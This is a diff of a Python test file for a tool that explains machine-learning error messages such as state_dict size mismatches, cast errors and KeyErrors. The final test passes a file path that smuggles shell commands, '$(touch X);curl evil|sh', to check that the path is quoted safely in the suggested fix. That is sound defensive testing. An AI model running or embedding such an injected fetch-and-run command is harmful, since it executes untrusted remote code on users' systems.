@@ -123,6 +123,34 @@ def explain_text(text):
     return explain([text.encode()])
 
 
+LOADING = "RuntimeError: Error(s) in loading state_dict for Net:\n\t"
+SIZES = "size mismatch for a.b: copying a param with shape (8,) from checkpoint, the shape in current model is (5,)."
+TARGET = "ValueError: Target module Mlp(\n  (up): Linear()\n) is not supported. Currently, only the following modules are supported"
+CAST = "datasets.table.CastError: Couldn't cast\nq: string\nto\n{'a': 1}\nbecause column names don't match"
+
+
+@pytest.mark.parametrize(("error", "words"), [
+    (LOADING + SIZES, "a.b: a weight of shape (8,), the model expects (5,)"),
+    (LOADING + 'Missing key(s) in state_dict: "a.b", "a.c". ', 'Missing key(s) in state_dict: "a.b", "a.c"'),
+    (TARGET, "Target module Mlp is not supported"),
+    (CAST, "column names don't match"),
+    ("RuntimeError: Tensor on device cpu is not on the expected device meta!", "Tensor on device cpu"),
+])  # fmt: skip
+def test_the_summary_has_what_a_message_of_several_lines_is_about(error, words):
+    assert words in explain_text(raised(None, error)).summary
+
+
+@pytest.mark.parametrize(("statement", "key", "words"), [
+    ('sched.load_state_dict(ckpt["scheduler"])', "scheduler", "the checkpoint has no scheduler"),
+    ("y = class_to_idx[name]", "surprise", "from the labels of all splits"),
+    ("ids = [char2idx[c] for c in text]", "é", "the vocabulary"),
+    ("z = table[name]", "surprise", "print the keys"),
+])  # fmt: skip
+def test_the_statement_shows_what_a_key_was_looked_up_in(statement, key, words):
+    frames = f'Traceback (most recent call last):\n  File "train.py", line 3, in <module>\n    {statement}\n'
+    assert words in explain_text(f"{frames}KeyError: '{key}'\n").fix
+
+
 def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
     path = "/data/$(touch X);curl evil|sh/train.bin"
     fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
